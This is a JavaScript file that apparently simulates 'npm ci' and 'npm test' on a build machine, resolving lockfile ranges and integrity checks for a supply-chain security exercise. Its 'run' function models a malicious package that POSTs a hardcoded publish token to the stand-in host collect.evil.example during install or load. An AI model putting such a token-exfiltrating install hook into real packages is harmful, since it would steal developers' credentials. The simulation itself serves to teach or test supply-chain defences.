// A simulated build machine: npm ci and npm test. Nothing to fix in this file.
const wanted = require('./package.json');
const lock = require('./package-lock.json');
const registry = require('./registry');
const { send } = require('./network');

const SECRET = 'PUBLISH_TOKEN=kb-77-terracotta';
// What the program requires. Node.js finds a module in node_modules, whoever asked for it.
const REQUIRED = ['csv-loom', 'date-lattice', 'mail-coat', 'paper-route', 'spec-kettle'];

// Ranges as npm reads them: ^1.2.3, ~1.2, >=1.0.0 <2, 1.x, *, several with ||.
const toNumbers = (version) => version.split('.').map(Number);
const compare = (left, right) =>
  left.map((number, at) => number - right[at]).find((step) => step !== 0) ?? 0;

function partFits(part, version) {
  const [, sign = '', text] = /^([~^=]|[<>]=?)?(.*)$/.exec(part);
  if (!/^[\dx*]+(\.[\dx*]+)*$/i.test(text)) return false;
  const given = toNumbers(text).filter((number) => number >= 0);
  // How the numbers that are given compare with those of the version.
  const step = compare(toNumbers(version).slice(0, given.length), given);
  if (sign === '>=') return step >= 0;
  if (sign === '>') return step > 0;
  if (sign === '<=') return step <= 0;
  if (sign === '<') return step < 0;
  const first = given.findIndex((number) => number > 0);
  const all = given.length;
  const caret = first < 0 ? all : first + 1;
  const fixed = { '^': caret, '~': Math.min(all, 2) }[sign] ?? all;
  const same = compare(toNumbers(version).slice(0, fixed), given.slice(0, fixed));
  return step >= 0 && same === 0;
}

const rangeFits = (range, version) =>
  range.split('||').some((all) => {
    const parts = all
      .replace(/(\S+)\s+-\s+(\S+)/g, '>=$1 <=$2')
      .replace(/([<>=~^])\s+/g, '$1')
      .trim()
      .split(/\s+/);
    return parts.every((part) => partFits(part || '*', version));
  });
const same = (left = {}, right = {}) => JSON.stringify(Object.entries(left).sort()) === JSON.stringify(Object.entries(right).sort());

// Every entry of the lockfile that is needed, beginning with package.json. Throws if something is missing.
function resolve() {
  const root = lock.packages[''] ?? {};
  if (!same(root.dependencies, wanted.dependencies) || !same(root.devDependencies, wanted.devDependencies)) throw new Error('EUSAGE: package.json and package-lock.json are not in sync');
  const modules = new Map();
  const queue = Object.entries({ ...wanted.dependencies, ...wanted.devDependencies });
  while (queue.length > 0) {
    const [name, range] = queue.shift();
    if (modules.has(name)) continue;
    const entry = lock.packages[`node_modules/${name}`];
    if (!entry || !rangeFits(range, entry.version)) throw new Error(`EUSAGE: package-lock.json has no ${name}@${range}`);
    modules.set(name, entry);
    queue.push(...Object.entries(entry.dependencies ?? {}));
  }
  return modules;
}

// The code of a package can do what the build can do.
async function run(module, moment, lines) {
  if (!module.runs.split(' ').includes(moment)) return;
  lines.push(`${module.name}: POST https://collect.evil.example/${module.name}`);
  await send(`https://collect.evil.example/${module.name}`, { method: 'POST', body: SECRET });
}

// npm ci: downloads what the lockfile says, from where it says, and compares the checksum if there is one. Then it runs the install scripts, unless they are switched off.
async function install(settings) {
  const lines = ['$ npm ci'];
  const modules = [];
  try {
    for (const [name, entry] of resolve()) {
      const module = registry.download(entry.resolved);
      if (!module) throw new Error(`E404: ${entry.resolved}`);
      if (entry.integrity && entry.integrity !== module.integrity) throw new Error(`EINTEGRITY: ${name}`);
      modules.push({ ...module, folder: name });
    }
  } catch (error) {
    return { ok: false, modules: [], lines: [...lines, error.message] };
  }
  lines.push(`added ${modules.length} packages`);
  if (!settings['ignore-scripts']) for (const module of modules) await run(module, 'install', lines);
  return { ok: true, modules, lines };
}

// npm test: the program requires its modules, and they require theirs.
async function load(modules) {
  const lines = ['$ npm test'];
  const fail = (why) => ({ ok: false, lines: [...lines, why] });
  const found = new Map(modules.map((module) => [module.folder, module]));
  const queue = [...REQUIRED];
  for (const name of queue) {
    const module = found.get(name);
    if (!module) return fail(`Cannot find module '${name}'`);
    if (module.works_as !== name) return fail(`TypeError: ${name} is not a function`);
    // What its code requires does not depend on what the lockfile says about it.
    const needed = Object.keys(JSON.parse(module.dependencies));
    queue.push(...needed.filter((other) => !queue.includes(other)));
  }
  for (const module of modules) await run(module, 'load', lines);
  return { ok: true, lines: [...lines, '31 tests passed'] };
}

module.exports = { install, load };
